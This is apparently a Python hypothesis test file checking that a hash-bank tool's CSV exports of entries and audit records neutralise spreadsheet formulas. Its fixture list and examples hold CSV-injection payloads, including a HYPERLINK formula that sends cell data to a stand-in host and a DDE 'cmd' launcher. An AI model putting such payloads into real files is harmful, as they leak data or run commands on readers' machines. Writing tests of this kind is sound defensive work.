"""Spreadsheet exports never carry a formula, whatever text went into them (CSV injection).

The CSV exports are a hash bank's entries (staff page and API, ``matching/formats``) and the
audit trail (``audit/export.py``); the other downloads are JSON or PDF. Text written by others
reaches them: a partner's tags and external references, the reasons staff type. Each cell of
the downloaded file is read back with Python's csv module and split on ";" as well, the list
separator with which Excel in French, Dutch or German opens a CSV file: no part may start a
formula (ASVS 5.0 1.2.10).
"""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from flagdesk.core.spreadsheets import FORMULA_STARTS, is_inert, neutralise, unescape
from tests.fuzz.strategies import FUZZ, NASTY, any_text, storable

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "'=1",
    "x;=cmd|' /C calc'!A0",
    "a;+1;-1;@x",
    ";=1",
    "=1;=2",
]
cell_text = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(NASTY),
    any_text,
    st.lists(st.sampled_from([*FORMULA_STARTS, ";", "'", "x", " ", ","]), max_size=8).map("".join),
)


SEEDS = itertools.count(1)  # a new hash for each example: a repeated one is not added again


def cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]


@FUZZ
@given(text=cell_text)
@example(text="a;=1")
@example(text="';'=")
def test_a_neutralised_cell_is_inert_and_reads_back(text):
    assert is_inert(neutralise(text))
    assert unescape(neutralise(text)) == text


@pytest.fixture
def bank(users):
    from flagdesk.matching.services.banks import create_bank

    return create_bank(actor=users["coordinator"], name="Partner hashes")


@FUZZ
@given(tags=st.lists(cell_text, max_size=3), external_ref=cell_text)
@example(tags=["x;=cmd|' /C calc'!A0"], external_ref='ref;=HYPERLINK("https://evil.test")')
@example(tags=["=1"], external_ref="\0=1")
def test_bank_exports_carry_no_formula(api, users, bank, tags, external_ref):
    from flagdesk.core.errors import ValidationFailed
    from flagdesk.matching.services.banks import EntryInput, add_entries
    from flagdesk.matching.signal_types import InvalidSignal
    from flagdesk.matching.tests.factories import random_pdq

    if not storable(*tags, external_ref):
        return  # PostgreSQL text cannot hold NUL; the API refuses it first (test_api_errors)
    entry = EntryInput("pdq", random_pdq(next(SEEDS)), 80, tags, external_ref)
    try:
        add_entries(bank, [entry], actor=users["coordinator"])
    except (ValidationFailed, InvalidSignal):
        return  # refused at the door (a tag with a line break, a reference too long)
    download = api("coordinator").get(f"/banks/{bank.slug}/entries", format="csv")
    assert download.status_code == 200
    text = b"".join(download.streaming_content).decode()
    unsafe = [cell for cell in cells(text) if not is_inert(cell)]
    assert unsafe == []


@FUZZ
@given(reason=cell_text, target=cell_text)
@example(reason="x;=cmd|' /C calc'!A0", target="\0=1")
def test_the_audit_export_carries_no_formula(users, reason, target):
    from flagdesk.audit.export import export_chunks
    from flagdesk.audit.models import AuditEntry
    from flagdesk.audit.services import record

    if not storable(target, reason):
        return  # PostgreSQL text cannot hold NUL; the API refuses it first (test_api_errors)
    record("fuzz.export", actor=users["auditor"], target=target, reason=reason)
    text = "".join(export_chunks(AuditEntry.objects.order_by("seq"), "csv"))
    unsafe = [cell for cell in cells(text) if not is_inert(cell)]
    assert unsafe == []
